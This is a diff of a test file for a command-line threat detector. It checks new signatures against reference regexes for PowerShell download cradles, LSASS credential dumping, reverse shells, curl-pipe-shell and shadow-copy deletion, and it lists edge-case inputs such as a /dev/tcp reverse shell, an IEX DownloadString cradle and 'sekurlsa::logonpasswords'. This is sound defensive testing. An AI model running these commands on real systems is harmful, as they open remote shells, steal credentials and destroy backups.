@@ -12,7 +12,8 @@ import { countTextWork } from '../helpers/work';
 /** The regexes as they were (reference only: quadratic, never run on hostile input here). */
 const REFERENCE: Record<string, RegExp> = {
   'ps-encoded': /\b(?:powershell|pwsh)(?:\.exe)?\b.*\s-(?:e|en|enc|enco|encod|encode|encodedcommand|ec)\s+[A-Za-z0-9+/=]{16,}/i,
-  'ps-download-cradle': /(?:iex|invoke-expression)\b[\s\S]*(?:downloadstring|downloaddata|invoke-webrequest|iwr|net\.webclient)|(?:downloadstring|net\.webclient)[\s\S]*\b(?:iex|invoke-expression)\b/i,
+  'ps-download-cradle':
+    /(?:iex|invoke-expression)\b[\s\S]*(?:downloadstring|downloaddata|invoke-webrequest|iwr|net\.webclient)|(?:downloadstring|net\.webclient)[\s\S]*\b(?:iex|invoke-expression)\b/i,
   'ps-hidden-bypass': /\b(?:powershell|pwsh)(?:\.exe)?\b(?=.*-(?:w|windowstyle)\s+h(?:idden)?)(?=.*-(?:ep|exec|executionpolicy)\s+bypass)/i,
   'certutil-download': /\bcertutil(?:\.exe)?\b.*-urlcache\b.*\bhttps?:\/\//i,
   'certutil-decode': /\bcertutil(?:\.exe)?\b.*-decode\b/i,
@@ -24,33 +25,78 @@ const REFERENCE: Record<string, RegExp> = {
   'lsass-dump': /(?:comsvcs(?:\.dll)?[, ]+#?\s*(?:minidump|24)\b|procdump(?:64)?(?:\.exe)?\b.*\blsass|sekurlsa::)/i,
   'curl-pipe-shell': /\b(?:curl|wget)\b[^|;]*\|\s*(?:ba|z|da)?sh\b/i,
   'reverse-shell': /(?:\/dev\/tcp\/\d{1,3}(?:\.\d{1,3}){3}\/\d+|\bnc(?:at)?\b.*\s-e\s+\/bin\/(?:ba)?sh|socket\.socket\(.*connect\()/i,
-  'recon-discovery': /\b(?:whoami\s+\/(?:all|priv|groups)|net\s+(?:group\s+"?domain admins"?|localgroup\s+administrators)|nltest\s+\/domain_trusts)/i,
+  'recon-discovery':
+    /\b(?:whoami\s+\/(?:all|priv|groups)|net\s+(?:group\s+"?domain admins"?|localgroup\s+administrators)|nltest\s+\/domain_trusts)/i,
 };
 
 const signaturesOf = (cmd: string) => new Set(analyzeCommandLines([cmd]).evidence.map((e) => e.slice(0, e.indexOf(': '))));
 const referenceOf = (cmd: string) => new Set(Object.keys(REFERENCE).filter((id) => REFERENCE[id].test(cmd)));
 
-const corpus = (file: string) => readFileSync(corpusPath('commands', file), 'utf8').split('\n').filter((l) => l.trim())
-  .map((l) => (JSON.parse(l) as { command: string }).command);
+const corpus = (file: string) =>
+  readFileSync(corpusPath('commands', file), 'utf8')
+    .split('\n')
+    .filter((l) => l.trim())
+    .map((l) => (JSON.parse(l) as { command: string }).command);
 
 /** Edge cases of the rewrite: line breaks inside and between tokens, suffixes, several starts. */
 const EDGES = [
-  'powershell.exe\n-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', 'powershell\n x -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
-  'powershell x\npowershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', 'pwsh.exe -ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
-  'powershell -w hidden\n-ep bypass', 'powershell -ep bypass x -windowstyle h', 'powershell -w h\npowershell -exec bypass -w hidden',
-  'powershell -w h -ep bypass', 'x -w h powershell -ep bypass', 'certutil -urlcache\nhttp://a', 'certutil.exe -urlcache -f https://a/b',
-  'certutil x\ncertutil -urlcache x\n-urlcache http://a', 'certutil.exe -decode a b', 'certutil -decodehex a b', 'mshta.exe vbscript:Close',
-  'mshta\nhttps://a', 'regsvr32 /i:http://a\n scrobj.dll', 'regsvr32.exe /s /i: https://a/x.sct scrobj.dll', 'rundll32.exe mshtml,RunHTMLApplication x',
-  'rundll32 javascript:\n', 'bitsadmin.exe /transfer j', 'bitsadmin\n/transfer', 'comsvcs.dll,  #24', 'comsvcs ,\t minidump', 'comsvcs \t\t#\t24',
-  'comsvcs.dll, \u00a0MiniDump', 'comsvcs  x minidump', 'procdump64.exe -ma lsass', 'procdump6 lsass', 'procdump.exe\nlsass', 'sekurlsa::logonpasswords',
-  'curl http://a | sh', 'curl a; wget b |  bash', 'curl a; echo | sh', 'wget -O- a |sudo sh', 'curl a | shx', 'curl a |\nzsh',
-  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'ncat 1.2.3.4 5 -e /bin/bash', 'nc 1 2\n-e /bin/sh', 'nca -e /bin/sh', 'python -c "s=socket.socket();s.connect((1,2))"',
-  'socket.socket(\nconnect(', 'IEX (New-Object Net.WebClient).DownloadString(x)', 'net.webclient\n\niex', 'iexplore downloadstring', 'xiex iwr',
-  'vssadmin.exe  delete   shadows /all', 'wmic shadowcopy delete', 'net group "domain admins" /domain',
+  'powershell.exe\n-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
+  'powershell\n x -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
+  'powershell x\npowershell -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
+  'pwsh.exe -ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
+  'powershell -w hidden\n-ep bypass',
+  'powershell -ep bypass x -windowstyle h',
+  'powershell -w h\npowershell -exec bypass -w hidden',
+  'powershell -w h -ep bypass',
+  'x -w h powershell -ep bypass',
+  'certutil -urlcache\nhttp://a',
+  'certutil.exe -urlcache -f https://a/b',
+  'certutil x\ncertutil -urlcache x\n-urlcache http://a',
+  'certutil.exe -decode a b',
+  'certutil -decodehex a b',
+  'mshta.exe vbscript:Close',
+  'mshta\nhttps://a',
+  'regsvr32 /i:http://a\n scrobj.dll',
+  'regsvr32.exe /s /i: https://a/x.sct scrobj.dll',
+  'rundll32.exe mshtml,RunHTMLApplication x',
+  'rundll32 javascript:\n',
+  'bitsadmin.exe /transfer j',
+  'bitsadmin\n/transfer',
+  'comsvcs.dll,  #24',
+  'comsvcs ,\t minidump',
+  'comsvcs \t\t#\t24',
+  'comsvcs.dll, \u00a0MiniDump',
+  'comsvcs  x minidump',
+  'procdump64.exe -ma lsass',
+  'procdump6 lsass',
+  'procdump.exe\nlsass',
+  'sekurlsa::logonpasswords',
+  'curl http://a | sh',
+  'curl a; wget b |  bash',
+  'curl a; echo | sh',
+  'wget -O- a |sudo sh',
+  'curl a | shx',
+  'curl a |\nzsh',
+  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+  'ncat 1.2.3.4 5 -e /bin/bash',
+  'nc 1 2\n-e /bin/sh',
+  'nca -e /bin/sh',
+  'python -c "s=socket.socket();s.connect((1,2))"',
+  'socket.socket(\nconnect(',
+  'IEX (New-Object Net.WebClient).DownloadString(x)',
+  'net.webclient\n\niex',
+  'iexplore downloadstring',
+  'xiex iwr',
+  'vssadmin.exe  delete   shadows /all',
+  'wmic shadowcopy delete',
+  'net group "domain admins" /domain',
 ];
 
 describe('command-line signatures answer as the regexes they replaced', () => {
-  test.each([['malicious_commands.jsonl', 8], ['admin_commands_tldr.jsonl', 2]])('on every command of the corpus (%s)', (file, kinds) => {
+  test.each([
+    ['malicious_commands.jsonl', 8],
+    ['admin_commands_tldr.jsonl', 2],
+  ])('on every command of the corpus (%s)', (file, kinds) => {
     const commands = corpus(file);
     expect(commands.length).toBeGreaterThan(1000);
     const differ = commands.filter((cmd) => [...signaturesOf(cmd)].sort().join() !== [...referenceOf(cmd)].sort().join());
